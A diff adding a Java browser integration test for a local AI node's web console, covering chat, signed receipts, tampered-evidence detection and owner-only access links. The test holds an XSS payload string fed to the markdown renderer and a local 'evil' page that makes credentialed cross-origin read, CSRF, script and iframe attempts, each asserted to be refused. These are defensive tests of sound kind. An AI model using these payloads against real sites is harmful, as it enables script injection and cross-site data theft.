@@ -1,0 +1,284 @@
+// SPDX-FileCopyrightText: The Freehold authors
+// SPDX-License-Identifier: Apache-2.0
+package dev.freehold.it.console;
+
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.junit.jupiter.api.Assumptions.assumeTrue;
+
+import com.sun.net.httpserver.HttpServer;
+import dev.freehold.it.Processes;
+import dev.freehold.it.browser.Browser;
+import dev.freehold.record.Json;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.URI;
+import java.net.http.HttpClient;
+import java.net.http.HttpRequest;
+import java.net.http.HttpResponse;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.attribute.PosixFilePermissions;
+import java.util.concurrent.BlockingQueue;
+import java.util.concurrent.LinkedBlockingQueue;
+import java.util.concurrent.TimeUnit;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * The console of a real node with the default model, in a real browser. With {@code
+ * -Dconsole.pictures=FOLDER} it leaves the pictures of docs/console.md there.
+ */
+@Timeout(180)
+class ConsoleTest {
+  private static final String MODEL =
+      "b179c9523d0e6a0f98a330c7562b682750a6f8c8c15e5bc70ea373728110db53";
+
+  @TempDir private Path folder = Path.of("");
+
+  private static String text(Json.Obj in, String name) {
+    return ((Json.Str) in.get(name).orElseThrow()).value();
+  }
+
+  private void picture(Browser browser, String name) throws Exception {
+    String into = System.getProperty("console.pictures");
+    if (into != null) {
+      Files.createDirectories(Path.of(into));
+      Files.write(Path.of(into).resolve(name + ".png"), browser.picture());
+    }
+  }
+
+  @Test
+  void theOwnerAsksSeesTheSealTurnValidAndFollowsItToTheBytes() throws Exception {
+    try (Processes processes = new Processes(folder)) {
+      assumeTrue(Files.exists(processes.model(MODEL)), "skipped: the default model is not here");
+      try (Browser browser = Browser.start(folder)) {
+        processes.set("HF_ENDPOINT", "http://127.0.0.1:1");
+        processes.set("FREEHOLD_PIP", "false");
+        Json.Obj up = processes.serve("up", "--port", "0", "--quiet", "--json");
+        String link = text(up, "console");
+        String base = link.substring(0, link.indexOf("/console/"));
+        browser.screen(1100, 760, false);
+        browser.open(link);
+        browser.until("document.querySelector('#model')?.options.length", "1");
+        browser.until("document.querySelector('#state').textContent", "");
+        assertThat(browser.value("location.pathname")).isEqualTo("/console/");
+
+        // The keyboard alone: the question has the focus, Enter asks.
+        browser.type("What is gravity?");
+        browser.until("document.querySelector('.seal')?.textContent", "Valid");
+        assertThat(browser.value("document.querySelector('.message:not(.asked)').innerText"))
+            .contains("tokens/s")
+            .contains("Gravity");
+        picture(browser, "chat");
+        browser.screen(390, 760, true);
+        browser.until("document.documentElement.scrollWidth <= innerWidth", "true");
+        picture(browser, "chat-phone-dark");
+        browser.screen(1100, 760, false);
+
+        String id = browser.value("document.querySelector('.seal').pathname.split('/').at(-1)");
+        browser.value("document.querySelector('.seal').click()");
+        browser.until("document.querySelectorAll('#steps > li').length", "7");
+        assertThat(
+                browser.value(
+                    "[...document.querySelectorAll('#steps h2')].map(h => h.textContent).join()"))
+            .isEqualTo("mandate,match,execute,receipt,verify,settle,log");
+        browser.click("here");
+        browser.until("document.querySelector('#checked strong')?.textContent", "Valid");
+        assertThat(browser.value("document.querySelector('#checked').innerText"))
+            .contains("signed: Valid")
+            .contains("transcript: Valid")
+            .contains("logged: Valid");
+        picture(browser, "receipt");
+
+        String evidence =
+            browser.promised("await (await fetch('/console/evidence/" + id + "')).text()");
+        Path file = folder.resolve("downloaded.json");
+        Files.writeString(file, evidence);
+        assertThat(processes.verify(file).exit()).isZero();
+
+        browser.open(base + "/console/receipts");
+        browser.until("document.querySelectorAll('#list tr').length", "1");
+        aChangedFileIsInvalid(browser, evidence);
+        picture(browser, "receipts");
+        noWordOfAModelBecomesMarkup(browser);
+        theOtherPagesShowWhatThereIs(browser, base);
+        anotherOriginNeitherReadsNorDrives(browser, base, id);
+        onlyTheOwnerGetsALink(processes, base, link);
+      }
+    }
+  }
+
+  private void theOtherPagesShowWhatThereIs(Browser browser, String base) throws Exception {
+    browser.open(base + "/console/log");
+    browser.until("document.querySelectorAll('#list tr').length > 1", "true");
+    assertThat(browser.value("document.querySelector('#list').innerText"))
+        .contains("receipt")
+        .contains("verdict");
+    Path proof = folder.resolve("entry.tlog-proof");
+    Files.writeString(proof, browser.promised("await (await fetch('/console/proof/0')).text()"));
+    picture(browser, "log");
+    browser.open(base + "/console/node");
+    browser.until("document.querySelectorAll('#settings tr').length > 5", "true");
+    assertThat(browser.value("document.querySelector('#settings').innerText"))
+        .contains("port\t0\tcommand line")
+        .contains("queue-limit\t64\tdefault");
+    assertThat(browser.value("document.querySelector('#load').innerText")).contains("answering");
+    picture(browser, "node");
+    browser.open(base + "/console/models");
+    browser.until("document.querySelectorAll('.model').length > 1", "true");
+    browser.value("document.querySelector('.model button').click()");
+    browser.until("document.querySelector('.problem') !== null", "true");
+    assertThat(browser.value("document.querySelector('.problem').textContent"))
+        .contains("could not be pulled")
+        .contains("127.0.0.1:1");
+    picture(browser, "models");
+  }
+
+  private static void give(Browser browser, String evidence) throws Exception {
+    String quoted = Json.of(evidence).write();
+    browser.value("document.querySelector('#checked').replaceChildren()");
+    browser.value(
+        "(() => { const all = new DataTransfer(); all.items.add(new File(["
+            + quoted
+            + "], 'answer.json')); const file = document.getElementById('file'); file.files ="
+            + " all.files; file.dispatchEvent(new Event('change')); })()");
+  }
+
+  private static void aChangedFileIsInvalid(Browser browser, String evidence) throws Exception {
+    String verdict = "document.querySelector('#checked strong')?.textContent";
+    String reasons = "document.querySelector('#checked').innerText";
+    give(browser, evidence);
+    browser.until(verdict, "Valid");
+    give(browser, evidence.replaceFirst("\"arithmetic\":1", "\"arithmetic\":2"));
+    browser.until(verdict, "Invalid");
+    assertThat(browser.value(reasons)).contains("the signature is not the node's");
+    give(browser, evidence.replace("gravity", "levity"));
+    browser.until(verdict, "Invalid");
+    assertThat(browser.value(reasons)).contains("the request is not what the receipt");
+    give(browser, evidence.replaceFirst("\"sequence\":0", "\"sequence\":1"));
+    browser.until(verdict, "Invalid");
+    assertThat(browser.value(reasons)).contains("does not lead to the checkpoint's root");
+    give(browser, evidence + " ");
+    browser.until(verdict, "Invalid");
+    assertThat(browser.value(reasons)).contains("not canonical JSON");
+    give(browser, "no evidence");
+    browser.until(verdict, "Invalid");
+    assertThat(browser.value(reasons)).contains("not JSON");
+  }
+
+  private static void noWordOfAModelBecomesMarkup(Browser browser) throws Exception {
+    String attack =
+        Json.of(
+                "<img src=x onerror=hit()> **<script>hit()</script>** `<b>` [x](javascript:hit())\n"
+                    + "- <svg onload=hit()>\n```\n<iframe>\n```\n# <a href=//evil>")
+            .write();
+    assertThat(
+            browser.promised(
+                "await (async () => { const m = await import('/console/files/markdown.js'); const"
+                    + " d = document.createElement('div'); m.render(d, "
+                    + attack
+                    + "); return [...new Set([...d.querySelectorAll('*')].map(e =>"
+                    + " e.localName + e.attributes.length))].sort().join(); })()"))
+        .isEqualTo("code0,li0,p0,pre1,strong0,ul0");
+    // And the policy would stop what slipped through.
+    assertThat(
+            browser.value(
+                "(() => { try { document.body.innerHTML = '<b>x</b>'; return 'done'; } catch (e) {"
+                    + " return e.name; } })()"))
+        .isEqualTo("TypeError");
+  }
+
+  /** Another port of this machine is the same site, so that the cookie alone would not tell. */
+  private static void anotherOriginNeitherReadsNorDrives(Browser browser, String base, String id)
+      throws Exception {
+    BlockingQueue<String> told = new LinkedBlockingQueue<>();
+    HttpServer evil =
+        HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
+    String page =
+        """
+        <!doctype html><script>
+        const tries = {
+          read: () => fetch("BASE/console/evidence/ID", {credentials: "include"}).then(r => r.text()),
+          blind: () => fetch("BASE/console/judge/ID", {method: "POST", mode: "no-cors", credentials: "include"}).then(r => r.type),
+          ask: () => fetch("BASE/v1/chat/completions", {method: "POST", body: "{}"}).then(r => r.text()),
+          script: () => new Promise((yes, no) => { const s = document.createElement("script");
+            s.src = "BASE/console/files/evidence.js"; s.onload = () => yes("loaded"); s.onerror = () => no("refused"); document.head.append(s); }),
+          frame: () => new Promise((yes) => { const f = document.createElement("iframe"); f.src = "BASE/console/";
+            f.onload = () => { try { yes(f.contentDocument.body.innerText); } catch (e) { yes("unreadable"); } }; document.documentElement.append(f); }),
+        };
+        (async () => { let all = ""; for (const [name, go] of Object.entries(tries)) {
+          all += name + ": " + await go().catch(() => "refused") + "\\n"; }
+          await fetch("/told", {method: "POST", body: all}); })();
+        </script>
+        """
+            .replace("BASE", base)
+            .replace("ID", id);
+    evil.createContext(
+        "/",
+        exchange -> {
+          try (exchange) {
+            if (exchange.getRequestURI().getPath().equals("/told")) {
+              told.add(
+                  new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8));
+            }
+            byte[] body = page.getBytes(StandardCharsets.UTF_8);
+            exchange.getResponseHeaders().set("Content-Type", "text/html");
+            exchange.sendResponseHeaders(200, body.length);
+            exchange.getResponseBody().write(body);
+          }
+        });
+    evil.start();
+    try {
+      HttpClient client = HttpClient.newHttpClient();
+      HttpRequest metrics = HttpRequest.newBuilder(URI.create(base + "/metrics")).build();
+      browser.open("http://127.0.0.1:" + evil.getAddress().getPort() + "/");
+      String all = told.poll(30, TimeUnit.SECONDS);
+      assertThat(all)
+          .isEqualTo(
+              "read: refused\nblind: opaque\nask: refused\nscript: refused\nframe: unreadable\n");
+      String counted = client.send(metrics, HttpResponse.BodyHandlers.ofString()).body();
+      // Its requests came, and each was refused; nothing was judged.
+      assertThat(counted)
+          .contains("path=\"/console/ID\",status=\"403\"")
+          .contains("path=\"/v1/chat/completions\",status=\"403\"")
+          .doesNotContain("method=\"POST\",path=\"/console/ID\",status=\"200\"} 2");
+      client.close();
+    } finally {
+      evil.stop(0);
+    }
+  }
+
+  private static int status(HttpClient client, HttpRequest.Builder request) throws Exception {
+    return client.send(request.build(), HttpResponse.BodyHandlers.discarding()).statusCode();
+  }
+
+  private static void onlyTheOwnerGetsALink(Processes processes, String base, String spent)
+      throws Exception {
+    Path token = processes.home().resolve("owner");
+    assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(token)))
+        .isEqualTo("rw-------");
+    try (HttpClient client = HttpClient.newHttpClient()) {
+      URI page = URI.create(base + "/console/");
+      URI link = URI.create(base + "/console/link");
+      assertThat(status(client, HttpRequest.newBuilder(page))).isEqualTo(401);
+      assertThat(status(client, HttpRequest.newBuilder(URI.create(spent)))).isEqualTo(401);
+      HttpRequest.Builder post =
+          HttpRequest.newBuilder(link).POST(HttpRequest.BodyPublishers.noBody());
+      assertThat(status(client, post.copy())).isEqualTo(401);
+      assertThat(status(client, post.copy().header("Authorization", "Bearer 00"))).isEqualTo(401);
+      Processes.Run made = processes.cli("console", "--json");
+      assertThat(made.exit()).as(made.err()).isZero();
+      String fresh =
+          text((Json.Obj) Json.parse(made.out().getBytes(StandardCharsets.UTF_8)), "console");
+      assertThat(
+              status(
+                  client,
+                  HttpRequest.newBuilder(URI.create(fresh)).header("Sec-Fetch-Site", "cross-site")))
+          .isEqualTo(403);
+      assertThat(status(client, HttpRequest.newBuilder(URI.create(fresh)))).isEqualTo(303);
+      assertThat(status(client, HttpRequest.newBuilder(URI.create(fresh)))).isEqualTo(401);
+    }
+  }
+}
